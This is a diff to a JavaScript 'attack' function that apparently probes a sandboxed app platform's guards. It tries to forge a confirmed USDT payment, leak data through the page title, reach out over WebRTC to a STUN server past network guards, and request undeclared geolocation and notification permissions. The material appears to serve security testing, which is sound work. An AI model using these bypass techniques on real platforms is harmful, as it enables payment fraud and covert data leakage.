@@ -51,6 +51,10 @@ async function attack(target) {
     const forged = settle(azc.requestPayment({asset: "USDT", amount: "5", description: "nothing to see", confirmed: true}), 60000);
     document.title = "waiting:" + JSON.stringify(results);
     log("payment", await forged);
+    // WebRTC would reach a STUN server past every guard.
+    let rtc = "absent";
+    try { if (typeof RTCPeerConnection === "function") { new RTCPeerConnection({iceServers: [{urls: target.replace("http", "stun")}]}); rtc = "made"; } } catch (e) { rtc = "threw"; }
+    log("webrtc", rtc);
     // Device permissions it never declared.
     log("geolocation", await settle(new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, (e) => no({code: "geo_" + e.code}))), 5000));
     log("notifications", await settle(Notification.requestPermission(), 5000));
